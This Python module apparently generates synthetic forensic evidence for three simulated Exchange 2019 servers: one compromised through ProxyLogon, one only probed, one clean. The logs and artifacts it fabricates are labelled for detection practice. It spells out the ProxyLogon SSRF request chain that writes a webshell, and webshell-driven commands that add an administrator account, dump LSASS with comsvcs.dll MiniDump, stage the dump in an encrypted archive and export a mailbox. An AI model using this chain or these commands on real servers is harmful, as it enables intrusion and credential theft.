"""The three Exchange 2019 CU8 hosts: compromised through ProxyLogon, probed only, and clean."""

from __future__ import annotations

from datetime import datetime, timedelta

from exgen import blobs
from exgen.common import HostFiles, Mark, utc
from exgen.events import Proc, classic, cmdlet_event, security, sysmon_access, sysmon_file, sysmon_proc
from exgen.exlogs import ecp_line, oab_text
from exgen.hostbase import ASPNET_CLIENT, NEAR, OWA_AUTH, Builder, Volume, mark_near_misses, mk_server, new_host
from exgen.ntfs import USN_BASIC_INFO, USN_CLOSE, USN_DATA_EXTEND, USN_FILE_CREATE, USN_FILE_DELETE, Change, NtfsFile
from exgen.weblogs import Req
from exgen.winbenign import SYSTEM, default_pool, host_procs

BUILD_2019_CU8 = (15, 2, 792, 3)
SCANNER_UA = "Mozilla/5.0 zgrab/0.x"
EXPLOIT_UA = "python-requests/2.25.1"
SHELL_UA = "antSword/v2.1"
BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"


def _ssrf(b: Builder, t: datetime, ip: str, ua: str, stem: str, anchor: str, status: int, backend: int,
          what: str, cookie: str = "", protocol: str = "Ecp", method: str = "POST") -> Req:
    """A request carrying an X-BEResource / X-AnonResource-Backend cookie: HttpProxy records the forged
    target in AnchorMailbox; IIS sees only the front-end stem."""
    return b.add_req(Req(
        t=t, ip=ip, method=method, stem=stem, query="", ua=ua, status=status, taken=b.rng.randint(20, 180),
        protocol=protocol, anchor=anchor, backend_status=backend, backend_cookie=cookie,
        routing_hint="BEResourceCookie" if backend else "", iis_mark=what, proxy_mark=what,
    ))


def _iis(b: Builder, t: datetime, ip: str, ua: str, method: str, stem: str, status: int, what: str,
         query: str = "") -> Req:
    return b.add_req(Req(t=t, ip=ip, method=method, stem=stem, query=query, ua=ua, status=status,
                         taken=b.rng.randint(3, 400), iis_mark=what))


def scanner_probes(b: Builder, day: str, ip: str, fqdn: str, wrong_host: str) -> None:
    """What mass scanners sent in March 2021: localhost SSRF probes and autodiscover SSRF that fails."""
    t = utc(day)
    _iis(b, t, ip, SCANNER_UA, "GET", "/owa/auth/logon.aspx", 200, "", "url=https%3a%2f%2fmail.contoso.com%2fowa")
    _ssrf(b, t + timedelta(seconds=2), ip, SCANNER_UA, "/owa/auth/x.js", "ServerInfo~localhost/ecp/default.flt?~3",
          500, 0, "ProxyLogon SSRF probe (localhost, failed)", protocol="Owa")
    _ssrf(b, t + timedelta(seconds=3), ip, SCANNER_UA, "/owa/auth/Current/themes/resources/logon.css",
          "ServerInfo~localhost/owa/auth/logon.aspx?~3", 500, 0, "ProxyLogon SSRF probe (localhost, failed)",
          protocol="Owa", method="POST")
    _ssrf(b, t + timedelta(seconds=5), ip, SCANNER_UA, "/ecp/x.js",
          f"ServerInfo~a]@{wrong_host}:444/autodiscover/autodiscover.xml?#", 500, 0,
          "ProxyLogon autodiscover SSRF attempt (wrong server name, failed)")
    _ssrf(b, t + timedelta(seconds=6), ip, SCANNER_UA, "/ecp/x.js",
          f"ServerInfo~a]@{fqdn}:444/autodiscover/autodiscover.xml?#", 401, 401,
          "ProxyLogon autodiscover SSRF attempt (401, failed)")


def compromised() -> HostFiles:
    """exchange-2019-compromised: the whole ProxyLogon chain on 2021-03-03 and a return on 2021-03-05."""
    server = mk_server("EX01", "10.10.10.11", BUILD_2019_CU8)
    b = new_host("exchange-2019-compromised", server, "2021-02-28", "2021-03-06", Volume())
    rng, fqdn = b.rng, server.fqdn
    atk, later = "203.0.113.77", "203.0.113.91"
    shell = f"{rng.alnum(8, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}.aspx"
    shell2 = f"{rng.alnum(6)}.aspx"
    scanner_probes(b, "2021-03-03 01:47:12.204", "203.0.113.66", fqdn, "exchange.contoso.com")

    t = utc("2021-03-03 02:13:05.118")
    ver = 1942062522  # the back-end version public exploits hard-code in X-BEResource (~N)
    canary = rng.alnum(64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") + "."
    srv = f"{fqdn}:444"
    steps = [
        ("/ecp/y.js", f"ServerInfo~a]@{srv}/autodiscover/autodiscover.xml?#", 200, "",
         "CVE-2021-26855 SSRF: autodiscover (LegacyDN leak)"),
        ("/ecp/main.css", f"ServerInfo~a]@{srv}/mapi/emsmdb?#", 200, "", "CVE-2021-26855 SSRF: mapi/emsmdb (SID leak)"),
        ("/ecp/default.flt", f"ServerInfo~a]@{srv}/ecp/proxyLogon.ecp?#", 241, "",
         "CVE-2021-26855 SSRF: proxyLogon.ecp (ECP session as the administrator)"),
        ("/ecp/y.js", f"ServerInfo~a]@{srv}/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory"
                      f"&msExchEcpCanary={canary}&a=~{ver}#", 200,
         f"Server~{srv}/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
         f"&a=~{ver}", "CVE-2021-26855 SSRF: DDIService GetObject OABVirtualDirectory"),
        ("/ecp/y.js", f"ServerInfo~a]@{srv}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"
                      f"&msExchEcpCanary={canary}&a=~{ver}#", 200,
         f"Server~{srv}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
         f"&a=~{ver}", "CVE-2021-26855 SSRF: DDIService SetObject OABVirtualDirectory (ExternalUrl set)"),
        ("/ecp/y.js", f"ServerInfo~a]@{srv}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"
                      f"&msExchEcpCanary={canary}&a=~{ver}#", 200,
         f"Server~{srv}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary="
         f"{canary}&a=~{ver}", "CVE-2021-27065 via SSRF: ResetOABVirtualDirectory writes the webshell"),
    ]
    for i, (stem, anchor, status, cookie, what) in enumerate(steps):
        _ssrf(b, t + timedelta(seconds=2 * i + i // 3), atk, EXPLOIT_UA, stem, anchor, status, status, what, cookie)
    oab_id = rng.guid()
    params = (f"ExternalUrl='http://f/{blobs.OAB_SCRIPT}'.Identity='{oab_id}'")
    b.ecp.append(ecp_line(rng, t + timedelta(seconds=8, milliseconds=377), server, "contoso.local/Users/Administrator",
                          atk, "Set-OabVirtualDirectory", params,
                          "CVE-2021-27065: Set-OabVirtualDirectory ExternalUrl holds a script"))
    written = t + timedelta(seconds=10, milliseconds=890)
    shell_win = f"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\{shell}"
    b.host.add(f"{OWA_AUTH}/{shell}", blobs.oab_vdir_dump(server.name, fqdn, server.version_text,
                                                           f"http://f/{blobs.OAB_SCRIPT}"), written,
               mark="webshell written by CVE-2021-27065 (OAB virtual directory dump with a JScript eval)")
    procs = host_procs(utc("2021-03-03"))
    b.events.append(sysmon_file(written, procs["ecp"], shell_win, "Sysmon 11: w3wp (ECP) writes the webshell"))

    t = utc("2021-03-03 02:14:05.330")
    _iis(b, t, atk, BROWSER_UA, "GET", f"/owa/auth/{shell}", 200, "webshell requested")
    owa = procs["owa"]
    _post_exploitation(b, owa, shell, atk)

    # CVE-2021-26858: the OAB generator writes an attacker-chosen file outside the OAB folder
    t = utc("2021-03-03 02:21:40.512")
    target = f"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell2}"
    b.oab.append((t, oab_text(t, 42, "Warning", f"Download failed and temporary file '{target}' needs to be removed."),
                  "CVE-2021-26858: OAB download temp file outside the OAB folder"))
    assistants = Proc(5124, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxAssistants.exe",
                      "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxAssistants.exe\"",
                      SYSTEM, utc("2021-02-20 06:00:00"))
    b.events.append(sysmon_file(t - timedelta(milliseconds=300), assistants, target,
                                "Sysmon 11: the OAB generator writes an .aspx under aspnet_client (26858)"))
    b.host.add(f"{ASPNET_CLIENT}/system_web/{shell2}", blobs.chopper_one_liner("p"), t,
               mark="webshell written through CVE-2021-26858 (one-line JScript eval)")
    for i in range(3):
        _iis(b, utc("2021-03-03 02:23:10.000") + timedelta(seconds=31 * i), atk, SHELL_UA, "POST",
             f"/aspnet_client/system_web/{shell2}", 200, "webshell used (POST 200)")
    for i in range(3):
        _iis(b, utc("2021-03-05 09:12:44.000") + timedelta(seconds=47 * i), later, SHELL_UA, "POST",
             f"/aspnet_client/system_web/{shell2}", 200, "webshell used again two days later")
    w3_default = default_pool(utc("2021-03-05 09:00:00"))
    t = utc("2021-03-05 09:13:31.640")
    b.events.append(sysmon_proc(t, Proc(14012, "C:\\Windows\\System32\\cmd.exe",
                                        "cmd /c dir C:\\ProgramData\\VSPerfMon", SYSTEM, t), w3_default,
                                "w3wp (DefaultAppPool) spawns cmd.exe", cwd="c:\\windows\\system32\\inetsrv\\"))
    _file_system_traces(b, shell2, later, w3_default)

    # CVE-2021-26857: the Unified Messaging deserialization failure in the Application log
    t = utc("2021-03-03 02:25:03.771")
    text = ("An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast "
            "object of type 'System.Windows.Data.ObjectDataProvider' to type "
            "'Microsoft.Exchange.UM.UMCore.UMMessageContext'.")
    b.events.append(classic(t, "MSExchange Unified Messaging", 1040, 2, [text], text,
                            "CVE-2021-26857: UM error with System.InvalidCastException"))
    return b.finish()


def _file_system_traces(b: Builder, shell2: str, later: str, w3: Proc) -> None:
    """What only the $MFT and the USN journal keep: a second web shell in owa/auth, used and deleted on
    2021-03-05, and the aspnet_client shell's $STANDARD_INFORMATION times set back to look installed."""
    gone = "OutlookEN.aspx"
    created, deleted = utc("2021-03-05 09:14:02.418"), utc("2021-03-05 09:40:12.733")
    volume_path = f"{OWA_AUTH[2:]}/{gone}"
    shell_win = f"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\{gone}"
    b.events.append(sysmon_file(created, w3, shell_win, "Sysmon 11: w3wp writes a second page into owa/auth"))
    written = created + timedelta(milliseconds=2)
    b.gone.append(NtfsFile(volume_path, (created, written, deleted, written), size=1187, in_use=False))
    b.journal.extend([Change(volume_path, created, USN_FILE_CREATE),
                      Change(volume_path, written, USN_FILE_CREATE | USN_DATA_EXTEND),
                      Change(volume_path, written, USN_FILE_CREATE | USN_DATA_EXTEND | USN_CLOSE),
                      Change(volume_path, deleted, USN_FILE_DELETE | USN_CLOSE)])
    for i, (at, taken) in enumerate((("2021-03-05 09:15:10.000", 187), ("2021-03-05 09:21:47.000", 342),
                                     ("2021-03-05 09:33:05.000", 95))):
        b.add_req(Req(t=utc(at), ip=later, method="POST", stem=f"/owa/auth/{gone}", query="", ua=SHELL_UA,
                      status=200, taken=taken,  # fixed: the rest of the host's random draws stay as they were
                      iis_mark="web shell used before it was deleted (POST 200)" if i == 0 else ""))
    b.host.marks.append(Mark("C/$Extend/$J", None, f"USN journal: owa/auth/{gone} created {created:%H:%M:%S}, "
                                                   f"deleted {deleted:%H:%M:%S} on 2021-03-05"))
    b.host.marks.append(Mark("C/$MFT", None, f"$MFT entry of owa/auth/{gone}, no longer in use"))
    # the 26858 shell: its $SI times set back to the aspnet_client folder's install date (whole seconds)
    real = utc("2021-03-03 02:21:40.512")
    stomped = utc("2020-11-04 03:12:41")
    path = f"{ASPNET_CLIENT}/system_web/{shell2}"
    b.ntfs_times[path] = NtfsFile(path[2:], (stomped, stomped, utc("2021-03-03 02:22:15.091"), stomped),
                                  fn=(real, real, real, real), size=len(b.host.files[path]))
    b.journal.append(Change(path[2:], utc("2021-03-03 02:22:15.091"), USN_BASIC_INFO | USN_CLOSE))
    b.host.marks.append(Mark("C/$MFT", None, f"$MFT entry of aspnet_client/system_web/{shell2}: $SI created "
                                             "before $FN created (timestomped)"))


def _post_exploitation(b: Builder, owa: Proc, shell: str, atk: str) -> None:
    cwd = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
    pid = [31200]

    def run(at: str, cmdline: str, what: str, children: list[tuple[str, str]] | None = None) -> Proc:
        t = utc(at)
        _iis(b, t - timedelta(milliseconds=400), atk, SHELL_UA, "POST", f"/owa/auth/{shell}", 200,
             "webshell used (POST 200)")
        pid[0] += 212
        cmd = Proc(pid[0], "C:\\Windows\\System32\\cmd.exe", cmdline, SYSTEM, t)
        b.events.append(sysmon_proc(t, cmd, owa, what, cwd=cwd))
        for i, (image, line) in enumerate(children or []):
            child = Proc(pid[0] + 8 * (i + 1), image, line, SYSTEM, t)
            b.events.append(sysmon_proc(t + timedelta(milliseconds=30 * (i + 1)), child, cmd, what, cwd=cwd))
        return cmd

    run("2021-03-03 02:14:31.208", f"cmd /c cd /d \"{cwd}\"&whoami&echo [S]&cd&echo [E]",
        "w3wp (OWA) -> cmd.exe whoami", [("C:\\Windows\\System32\\whoami.exe", "whoami")])
    run("2021-03-03 02:31:10.450", "cmd /c net user support_svc Sup0rt!2021x /add",
        "w3wp -> cmd.exe net user /add",
        [("C:\\Windows\\System32\\net.exe", "net  user support_svc Sup0rt!2021x /add"),
         ("C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  user support_svc Sup0rt!2021x /add")])
    new_sid = "S-1-5-21-1004336348-1177238915-682003330-1003"  # local account: the machine SID
    subject = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO",
               "SubjectLogonId": "0x3e7"}
    b.events.append(security(utc("2021-03-03 02:31:10.902"), 4720, {
        "TargetUserName": "support_svc", "TargetDomainName": "EX01", "TargetSid": new_sid, **subject,
        "PrivilegeList": "-", "SamAccountName": "support_svc", "DisplayName": "%%1793",
        "UserPrincipalName": "-", "UserAccountControl": "%%2080 %%2082 %%2084"},
        "Security 4720: local account support_svc created"))
    run("2021-03-03 02:31:25.118", "cmd /c net localgroup administrators support_svc /add",
        "w3wp -> cmd.exe net localgroup administrators /add",
        [("C:\\Windows\\System32\\net.exe", "net  localgroup administrators support_svc /add")])
    b.events.append(security(utc("2021-03-03 02:31:25.377"), 4732, {
        "MemberName": "-", "MemberSid": new_sid, "TargetUserName": "Administrators", "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544", **subject, "PrivilegeList": "-"},
        "Security 4732: support_svc added to Administrators"))
    run("2021-03-03 02:38:40.020", "cmd /c tasklist /fi \"imagename eq lsass.exe\"", "w3wp -> cmd.exe tasklist",
        [("C:\\Windows\\System32\\tasklist.exe", "tasklist  /fi \"imagename eq lsass.exe\"")])
    dump_cmd = "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 " \
               "C:\\Windows\\Temp\\lsass.dmp full"
    cmd = run("2021-03-03 02:38:52.610", f"cmd /c {dump_cmd}", "w3wp -> cmd.exe rundll32 comsvcs.dll MiniDump",
              [("C:\\Windows\\System32\\rundll32.exe", dump_cmd)])
    rundll = Proc(cmd.pid + 8, "C:\\Windows\\System32\\rundll32.exe", dump_cmd, SYSTEM, utc("2021-03-03 02:38:52.640"))
    lsass = host_procs(utc("2021-03-03"))["lsass"]
    b.events.append(sysmon_access(utc("2021-03-03 02:38:52.702"), rundll, lsass, "0x1FFFFF",
                                  "Sysmon 10: rundll32 (comsvcs) opens lsass with full access"))
    dumped = utc("2021-03-03 02:38:54.118")
    b.events.append(sysmon_file(dumped, rundll, "C:\\Windows\\Temp\\lsass.dmp", "Sysmon 11: lsass.dmp written"))
    b.host.add("C/Windows/Temp/lsass.dmp", blobs.minidump(b.rng, dumped), dumped, mark="LSASS minidump (MDMP)")
    zip_cmd = "C:\\ProgramData\\VSPerfMon\\7z.exe a -pQ7rX2zv -mhe=on C:\\ProgramData\\VSPerfMon\\pl.7z " \
              "C:\\Windows\\Temp\\lsass.dmp"
    cmd = run("2021-03-03 02:44:02.310", f"cmd /c {zip_cmd}", "w3wp -> cmd.exe 7z a -p (staging in ProgramData)",
              [("C:\\ProgramData\\VSPerfMon\\7z.exe", zip_cmd)])
    staged = utc("2021-03-03 02:44:05.902")
    seven = Proc(cmd.pid + 8, "C:\\ProgramData\\VSPerfMon\\7z.exe", zip_cmd, SYSTEM, staged)
    b.events.append(sysmon_file(staged, seven, "C:\\ProgramData\\VSPerfMon\\pl.7z", "Sysmon 11: pl.7z written"))
    b.host.add("C/ProgramData/VSPerfMon/pl.7z", blobs.seven_zip(b.rng), staged,
               mark="password-protected 7z staging archive in ProgramData")
    victim = b.org.users[5]
    ps = ("powershell.exe -nop -c \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn;"
          f"New-MailboxExportRequest -Mailbox {victim.upn} -FilePath \\\\EX01\\C$\\ProgramData\\VSPerfMon\\mb.pst\"")
    run("2021-03-03 03:02:15.880", f"cmd /c {ps}", "w3wp -> cmd.exe powershell New-MailboxExportRequest",
        [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", ps)])
    b.events.append(cmdlet_event(utc("2021-03-03 03:02:27.145"), "New-MailboxExportRequest",
                                 f"-Mailbox \"{victim.upn}\" -FilePath "
                                 "\"\\\\EX01\\C$\\ProgramData\\VSPerfMon\\mb.pst\"",
                                 "NT AUTHORITY\\SYSTEM", "S-1-5-18", "Local-PowerShell",
                                 "MSExchange Management: New-MailboxExportRequest to ProgramData",
                                 process=f"{pid[0] + 8} powershell"))
    b.events.append(cmdlet_event(utc("2021-03-03 03:19:40.502"), "Remove-MailboxExportRequest",
                                 f"-Identity \"{victim.upn}\\MailboxExport\" -Confirm \"False\"",
                                 "NT AUTHORITY\\SYSTEM", "S-1-5-18", "Local-PowerShell",
                                 "MSExchange Management: Remove-MailboxExportRequest (clean-up)",
                                 process=f"{pid[0] + 8} powershell"))


def probed() -> HostFiles:
    """exchange-2019-probed: benign traffic and failed ProxyLogon attempts only (no event export collected)."""
    server = mk_server("EX03", "10.10.10.13", BUILD_2019_CU8)
    b = new_host("exchange-2019-probed", server, "2021-03-02", "2021-03-05",
                 Volume(sessions=40, events=False, ntfs=False))
    fqdn = server.fqdn
    scanner_probes(b, "2021-03-04 07:21:55.610", "203.0.113.15", fqdn, "mail.contoso.com")
    scanner_probes(b, "2021-03-04 19:02:08.044", "203.0.113.140", fqdn, "exchange")
    t = utc("2021-03-04 19:02:20.000")
    _ssrf(b, t, "203.0.113.140", SCANNER_UA, "/ecp/y.js", f"ServerInfo~a]@{fqdn}:444/ecp/proxyLogon.ecp?#", 500, 0,
          "ProxyLogon proxyLogon.ecp SSRF attempt (500, failed)")
    for i, stem in enumerate(["/owa/auth/shell.aspx", "/aspnet_client/system_web/x.aspx", "/owa/auth/errorEE.aspx",
                              "/aspnet_client/discover.aspx"]):
        _iis(b, t + timedelta(seconds=4 + 3 * i), "203.0.113.140", SCANNER_UA, "POST", stem, 404,
             "webshell path probe (404)")
    return b.finish()


def clean() -> HostFiles:
    """exchange-2019-clean: benign traffic and near-misses that must stay quiet."""
    server = mk_server("EX02", "10.10.10.12", BUILD_2019_CU8)
    b = new_host("exchange-2019-clean", server, "2021-03-01", "2021-03-05", Volume(sessions=42))
    rng = b.rng
    admin = b.org.admins[0]
    t = utc("2021-03-02 10:14:27.311")
    what = NEAR + "administrator sets the OAB ExternalUrl from ECP (authenticated, no ServerInfo anchor)"
    b.add_req(Req(t=t, ip=admin.ws_ip, method="POST", stem="/ecp/DDI/DDIService.svc/SetObject",
                  query="schema=OABVirtualDirectory&msExchEcpCanary=" + rng.alnum(64), ua=admin.browser, status=200,
                  taken=412, protocol="Ecp", auth="Cookie", upn=admin.upn, user=admin.upn, action="SetObject",
                  anchor=f"Smtp~{admin.upn}", referer="https://mail.contoso.com/ecp/", iis_mark=what,
                  proxy_mark=what))
    b.ecp.append(ecp_line(rng, t + timedelta(milliseconds=380), server, f"CONTOSO\\{admin.sam}", admin.ws_ip,
                          "Set-OabVirtualDirectory",
                          "ExternalUrl='https://mail.contoso.com/OAB'."
                          f"Identity='{server.name}\\OAB (Default Web Site)'",
                          NEAR + "legitimate Set-OabVirtualDirectory -ExternalUrl https://mail.contoso.com/OAB"))
    b.host.add("D/Backups/exchange-config-2021-03-01.zip", blobs.backup_zip({
        "exchange-config/OabVirtualDirectory.txt": blobs.oab_vdir_dump(server.name, server.fqdn, server.version_text,
                                                                       "https://mail.contoso.com/OAB"),
        "exchange-config/README.txt": f"Configuration export of {server.name}, 2021-03-01. {blobs.SYNTHETIC}\r\n",
    }, (2021, 3, 1, 22, 5, 10)), utc("2021-03-01 22:05:12"),
        mark=NEAR + "backup zip outside ProgramData (D:\\Backups)")
    b.host.add("C/Windows/MEMORY.DMP", blobs.kernel_dump(rng), utc("2021-02-27 04:51:09"),
               mark=NEAR + "kernel crash dump (PAGEDU64), not an LSASS minidump")
    for name in ("CSC5F1A.tmp", "RES8C2E.tmp", "DMI4A2B.tmp"):
        b.host.add(f"C/Windows/Temp/{name}", bytes(rng.getrandbits(8) for _ in range(512)), utc("2021-03-01 01:41:00"))
    mark_near_misses(b)
    return b.finish()
